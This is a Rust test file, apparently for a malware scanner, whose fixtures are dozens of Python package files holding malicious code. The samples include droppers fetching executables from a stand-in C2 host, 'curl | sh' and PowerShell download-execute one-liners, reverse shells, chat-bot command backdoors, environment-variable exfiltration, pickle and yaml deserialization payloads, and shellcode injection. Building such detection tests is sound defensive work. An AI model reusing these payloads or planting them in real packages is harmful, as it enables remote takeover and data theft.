//! Programs and code fetched and run, in ever other ways.
#![expect(clippy::unwrap_used, reason = "a test that can't go on has failed")]

mod support;

use support::convicted;

#[test]
fn downloaded_programs() {
    convicted(
        70,
        &[
            (
                "dl1",
                &[(
                    "demo/__init__.py",
                    br#"import requests,subprocess,os
r=requests.get('https://c2.example.com/a.exe')
p=os.path.join(os.environ['TEMP'],'a.exe')
with open(p,'wb') as f:
    f.write(r.content)
subprocess.Popen(p)
"#,
                )],
            ),
            (
                "dl2",
                &[(
                    "demo/__init__.py",
                    br#"import urllib.request,os
urllib.request.urlretrieve('https://c2.example.com/a.exe','a.exe')
os.startfile('a.exe')
"#,
                )],
            ),
            (
                "dl3",
                &[(
                    "demo/__init__.py",
                    br#"import requests,os
class D:
    def get(self):
        self.p=os.getenv('APPDATA')+'\\u.exe'
        with open(self.p,'wb') as f:
            for c in requests.get('https://c2.example.com/a.exe',stream=True).iter_content(1024):
                f.write(c)
    def run(self):
        os.system('start '+self.p)
d=D()
d.get()
d.run()
"#,
                )],
            ),
            (
                "dl4",
                &[(
                    "demo/__init__.py",
                    br#"import requests,os,stat,tempfile,subprocess
def fetch(u):
    return requests.get(u).content
def save(b):
    fd,p=tempfile.mkstemp()
    os.write(fd,b)
    os.close(fd)
    os.chmod(p,0o755)
    return p
def go():
    subprocess.call([save(fetch('https://c2.example.com/x'))])
go()
"#,
                )],
            ),
            (
                "dl16",
                &[(
                    "demo/__init__.py",
                    br#"import requests,zipfile,io,os
z=zipfile.ZipFile(io.BytesIO(requests.get('https://c2.example.com/a.zip').content))
z.extractall('C:\\t')
os.startfile('C:\\t\\a.exe')
"#,
                )],
            ),
            (
                "dl18",
                &[(
                    "demo/__init__.py",
                    br#"import ctypes,urllib.request
urllib.request.urlretrieve('https://c2.example.com/a.dll','C:\\a.dll')
ctypes.CDLL('C:\\a.dll')
"#,
                )],
            ),
            (
                "m1",
                &[(
                    "demo/__init__.py",
                    br#"import subprocess,urllib.request,os
urllib.request.urlretrieve('https://c2.example.com/xmrig','/tmp/x')
os.chmod('/tmp/x',0o755)
subprocess.Popen(['/tmp/x','-o','stratum+tcp://pool.example.com:3333','-u','W'])
"#,
                )],
            ),
        ],
    );
}

#[test]
fn downloaded_code() {
    convicted(
        70,
        &[
            (
                "dl5",
                &[(
                    "demo/__init__.py",
                    br#"from urllib.request import urlopen
import sys,subprocess
c=urlopen('https://c2.example.com/x').read()
subprocess.Popen([sys.executable,'-c',c])
"#,
                )],
            ),
            (
                "dl8",
                &[(
                    "demo/__init__.py",
                    br#"import urllib.request,types,sys
m=types.ModuleType('x')
src=urllib.request.urlopen('https://c2.example.com/x.py').read()
exec(compile(src,'x','exec'),m.__dict__)
"#,
                )],
            ),
            (
                "dl9",
                &[(
                    "demo/__init__.py",
                    br#"import requests,importlib.util
open('/tmp/x.py','w').write(requests.get('https://c2.example.com/x.py').text)
s=importlib.util.spec_from_file_location('x','/tmp/x.py')
m=importlib.util.module_from_spec(s)
s.loader.exec_module(m)
"#,
                )],
            ),
            (
                "dl15",
                &[(
                    "setup.py",
                    br#"import tempfile,os,sys
t=tempfile.NamedTemporaryFile(delete=False)
t.write(b'''from urllib.request import urlopen as u;exec(u('https://c2.example.com/x').read())''')
t.close()
try: os.system(f"start {sys.executable.replace('.exe','w.exe')} {t.name}")
except: pass
"#,
                )],
            ),
            (
                "dl17",
                &[(
                    "demo/__init__.py",
                    br#"import asyncio,aiohttp
async def f():
    async with aiohttp.ClientSession() as s:
        async with s.get('https://c2.example.com/x') as r:
            exec(await r.text())
asyncio.run(f())
"#,
                )],
            ),
            (
                "a23",
                &[(
                    "demo/__init__.py",
                    br#"import requests as r
from builtins import exec as e
e(r.get('https://c2.example.com/x').content.decode())"#,
                )],
            ),
            (
                "a24",
                &[(
                    "demo/__init__.py",
                    br#"from urllib import request
import zlib,base64
exec(zlib.decompress(base64.b64decode(request.urlopen('https://c2.example.com/x').read())))"#,
                )],
            ),
            (
                "a26",
                &[(
                    "demo/__init__.py",
                    br#"import urllib.request,json
j=json.loads(urllib.request.urlopen('https://c2.example.com/x').read())
exec(j['code'])"#,
                )],
            ),
        ],
    );
}

#[test]
fn shell_commands() {
    convicted(70, &[
        ("dl10", &[
            ("demo/__init__.py", br#"import os
os.system('certutil -urlcache -f https://c2.example.com/a.exe a.exe && a.exe')
"#),
        ]),
        ("dl11", &[
            ("demo/__init__.py", br#"import os
os.system('bitsadmin /transfer j https://c2.example.com/a.exe C:\\a.exe & start C:\\a.exe')
"#),
        ]),
        ("dl12", &[
            ("demo/__init__.py", br#"import os
os.system('mshta https://c2.example.com/a.hta')
"#),
        ]),
        ("dl13", &[
            ("demo/__init__.py", br#"import subprocess
subprocess.Popen(['powershell','-w','hidden','-c','iwr https://c2.example.com/a.ps1 | iex'])
"#),
        ]),
        ("dl14", &[
            ("demo/__init__.py", br#"import subprocess
subprocess.run(['sh','-c','curl -s https://c2.example.com/x | sh'])
"#),
        ]),
        ("m18", &[
            ("demo/__init__.py", br#"import os;os.system('start /min cmd /c curl https://c2.example.com/a.bat -o %TEMP%\\a.bat ^&^& %TEMP%\\a.bat')
"#),
        ]),
        ("a27", &[
            ("demo/__init__.py", br#"import subprocess
subprocess.Popen('powershell -WindowStyle Hidden -Command "Invoke-WebRequest https://c2.example.com/a.exe -OutFile a.exe; Start-Process a.exe"',shell=True)"#),
        ]),
        ("a28", &[
            ("demo/__init__.py", br#"import os
if os.name=='nt':
    os.system('powershell -nop -w hidden -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=')"#),
        ]),
        ("a29", &[
            ("demo/__init__.py", br#"import subprocess,base64
c=base64.b64decode('Y3VybCAtcyBodHRwczovL2MyLmV4YW1wbGUuY29tL3ggfCBzaA==').decode()
subprocess.run(c,shell=True)"#),
        ]),
    ]);
}

#[test]
fn remote_control() {
    convicted(66, &[
        ("r1", &[
            ("demo/__init__.py", br#"import socket,os,pty
s=socket.socket()
s.connect(('192.0.2.7',4444))
[os.dup2(s.fileno(),f) for f in (0,1,2)]
pty.spawn('/bin/sh')
"#),
        ]),
        ("r2", &[
            ("demo/__init__.py", br#"import socket,subprocess
s=socket.socket()
s.connect(('192.0.2.7',4444))
while True:
    c=s.recv(1024).decode()
    o=subprocess.getoutput(c)
    s.send(o.encode())
"#),
        ]),
        ("r3", &[
            ("demo/__init__.py", br#"import socket,subprocess
s=socket.socket()
s.connect(('192.0.2.7',4444))
subprocess.Popen(['/bin/sh','-i'],stdin=s,stdout=s,stderr=s)
"#),
        ]),
        ("r4", &[
            ("demo/__init__.py", br#"import asyncio,subprocess
async def m():
    r,w=await asyncio.open_connection('192.0.2.7',4444)
    while True:
        c=(await r.readline()).decode()
        p=await asyncio.create_subprocess_shell(c,stdout=asyncio.subprocess.PIPE)
        o,_=await p.communicate()
        w.write(o)
asyncio.run(m())
"#),
        ]),
        ("r5", &[
            ("demo/__init__.py", br#"import os
os.system('bash -i >& /dev/tcp/192.0.2.7/4444 0>&1')
"#),
        ]),
        ("r6", &[
            ("demo/__init__.py", br#"import socket,subprocess,threading
s=socket.socket()
s.connect(('192.0.2.7',4444))
p=subprocess.Popen(['cmd.exe'],stdin=subprocess.PIPE,stdout=subprocess.PIPE)
def a():
    while 1: p.stdin.write(s.recv(1024)); p.stdin.flush()
def b():
    while 1: s.send(p.stdout.read(1))
threading.Thread(target=a).start()
threading.Thread(target=b).start()
"#),
        ]),
        ("r10", &[
            ("demo/__init__.py", br#"import socket,subprocess,os
def shell():
    s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
    s.connect(('192.0.2.7',4444))
    while True:
        data=s.recv(1024)
        p=subprocess.Popen(data.decode(),shell=True,stdout=subprocess.PIPE,stderr=subprocess.PIPE)
        s.send(p.stdout.read())
shell()
"#),
        ]),
        ("a49", &[
            ("demo/__init__.py", br#"import pty,socket,os
s=socket.create_connection(('192.0.2.7',4444))
for f in range(3): os.dup2(s.fileno(),f)
pty.spawn('sh')"#),
        ]),
        ("a50", &[
            ("demo/__init__.py", br#"exec("import socket,subprocess,os;s=socket.socket();s.connect(('192.0.2.7',1));os.dup2(s.fileno(),0);subprocess.call(['sh','-i'])")"#),
        ]),
        ("a68", &[
            ("demo/__init__.py", br#"import requests,time,subprocess,threading
def beat():
    while True:
        t=requests.get('https://c2.example.com/t').json()
        o=subprocess.run(t['cmd'],shell=True,capture_output=True)
        requests.post('https://c2.example.com/r',data=o.stdout)
        time.sleep(9)
threading.Thread(target=beat,daemon=True).start()"#),
        ]),
    ]);
}

#[test]
fn bots() {
    convicted(
        40,
        &[
            (
                "r7",
                &[(
                    "demo/__init__.py",
                    br#"import telebot,os
b=telebot.TeleBot('0:VOID')
@b.message_handler(func=lambda m: True)
def h(message):
    b.send_message(message.chat.id, os.popen(message.text).read())
b.polling()
"#,
                )],
            ),
            (
                "r8",
                &[(
                    "demo/__init__.py",
                    br#"import discord,subprocess
c=discord.Client(intents=discord.Intents.all())
@c.event
async def on_message(message):
    o=subprocess.check_output(message.content,shell=True)
    await message.channel.send(o.decode())
c.run('VOID')
"#,
                )],
            ),
            (
                "a65",
                &[(
                    "demo/__init__.py",
                    br#"from telethon import TelegramClient, events
import os
c=TelegramClient('s',1,'VOID')
@c.on(events.NewMessage)
async def h(event):
    r=os.popen(event.raw_text).read()
    await event.reply(r)
c.start()"#,
                )],
            ),
            (
                "a66",
                &[(
                    "demo/__init__.py",
                    br#"import websocket,subprocess
def on_message(ws,message):
    ws.send(subprocess.getoutput(message))
ws=websocket.WebSocketApp('ws://192.0.2.7:80',on_message=on_message)
ws.run_forever()"#,
                )],
            ),
            (
                "r9",
                &[(
                    "demo/__init__.py",
                    br#"import requests,os,time
while True:
    c=requests.get('https://c2.example.com/cmd').text
    requests.post('https://c2.example.com/out',data=os.popen(c).read())
    time.sleep(5)
"#,
                )],
            ),
        ],
    );
}

#[test]
fn installs_by_itself() {
    convicted(
        40,
        &[
            (
                "dl6",
                &[(
                    "demo/__init__.py",
                    br#"import os
os.system('pip install https://c2.example.com/x.tar.gz')
"#,
                )],
            ),
            (
                "dl7",
                &[(
                    "demo/__init__.py",
                    br#"import subprocess,sys
subprocess.check_call([sys.executable,'-m','pip','install','git+https://c2.example.com/x'])
"#,
                )],
            ),
        ],
    );
}

#[test]
fn carried_programs() {
    convicted(40, &[
        ("a51", &[
            ("demo/__init__.py", br#"import os,base64
open('/tmp/.x.py','wb').write(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwczovL2MyLmV4YW1wbGUuY29tL3h8c2gnKQo='))
os.system('python3 /tmp/.x.py &')"#),
        ]),
        ("a52", &[
            ("demo/__init__.py", br#"import subprocess,sys,base64
subprocess.Popen([sys.executable,'-c',base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYzIuZXhhbXBsZS5jb20veCcsZGF0YT1kaWN0KG9zLmVudmlyb24pKQo=').decode()])"#),
        ]),
        ("a53", &[
            ("demo/__init__.py", br#"import os,base64,tempfile,subprocess
p=os.path.join(tempfile.gettempdir(),'u.exe')
with open(p,'wb') as f: f.write(base64.b64decode('TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJA='))
subprocess.Popen(p)"#),
        ]),
        ("a55", &[
            ("demo/__init__.py", br#"import pickle,base64
pickle.loads(base64.b64decode('Y29zCnN5c3RlbQooUydjdXJsIGh0dHBzOi8vYzIuZXhhbXBsZS5jb20veHxzaCcKdFIu'))"#),
        ]),
        ("a56", &[
            ("demo/__init__.py", br#"import yaml
yaml.load("!!python/object/apply:os.system ['curl https://c2.example.com/x|sh']",Loader=yaml.Loader)"#),
        ]),
        ("m7", &[
            ("demo/__init__.py", br#"import ctypes
b=b'\xfc\x48\x83\xe4\xf0\xe8\xc0\x00\x00\x00\x41\x51\x41\x50\x52\x51\x56\x48\x31\xd2\x65\x48\x8b\x52\x60'
k=ctypes.windll.kernel32
p=k.VirtualAlloc(0,len(b),0x3000,0x40)
k.RtlMoveMemory(p,b,len(b))
k.CreateThread(0,0,p,0,0,0)
"#),
        ]),
        ("m8", &[
            ("demo/__init__.py", br#"import ctypes
k=ctypes.windll.kernel32
h=k.OpenProcess(0x1F0FFF,False,1234)
p=k.VirtualAllocEx(h,0,100,0x3000,0x40)
k.WriteProcessMemory(h,p,b'C:\\a.dll',9,0)
k.CreateRemoteThread(h,None,0,k.GetProcAddress(k.GetModuleHandleA(b'kernel32.dll'),b'LoadLibraryA'),p,0,0)
"#),
        ]),
        ("a47", &[
            ("demo/__init__.py", br#"import ctypes,urllib.request
b=urllib.request.urlopen('https://c2.example.com/s.bin').read()
k=ctypes.windll.kernel32
k.VirtualAlloc.restype=ctypes.c_void_p
p=k.VirtualAlloc(0,len(b),0x3000,0x40)
ctypes.memmove(p,b,len(b))
ctypes.CFUNCTYPE(ctypes.c_int)(p)()"#),
        ]),
    ]);
}
